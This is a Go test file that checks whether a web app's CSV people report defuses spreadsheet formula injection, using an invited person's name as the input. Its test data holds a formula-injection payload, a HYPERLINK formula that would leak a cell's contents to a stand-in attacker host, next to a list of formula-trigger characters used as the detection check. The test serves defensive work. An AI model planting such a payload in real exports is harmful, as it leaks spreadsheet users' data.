package main

import (
	"encoding/csv"
	"net/http"
	"strings"
	"testing"
)

// TestCSVDownloadsRunNoFormulas: a name typed in by one person reaches a
// CSV another person opens in a spreadsheet (here the people report of an
// administrator, once the invited person accepted). Every CSV download defuses a cell that would run as a
// formula, as the contact export does; numbers stay numbers.
func TestCSVDownloadsRunNoFormulas(t *testing.T) {
	w := newRouteWorld(t)
	code, body := w.do(w.tokens["admin"], "POST", "/api/v1/persons",
		`{"email":"formula@a.example.org","name":"=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")","role":"viewer"}`)
	if code != http.StatusCreated {
		t.Fatalf("invite: %d %s", code, body)
	}
	token := inviteLink(t, w.a.cfg.SMTP.CaptureDir, "formula@a.example.org")
	if _, err := w.a.staff().AcceptInvite(t.Context(), token, "a spreadsheet passphrase 2026"); err != nil {
		t.Fatal(err)
	}
	code, body = w.do(w.tokens["admin"], "GET", "/api/v1/reports/people?format=csv", "")
	if code != http.StatusOK {
		t.Fatalf("people report: %d %s", code, body)
	}
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, r := range recs[1:] {
		for _, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q would run as a formula", cell)
			}
		}
		found = found || r[2] == `'=HYPERLINK("https://evil.example/?"&A1,"open")`
	}
	if !found {
		t.Errorf("the defused name is not in the report:\n%s", body)
	}
}
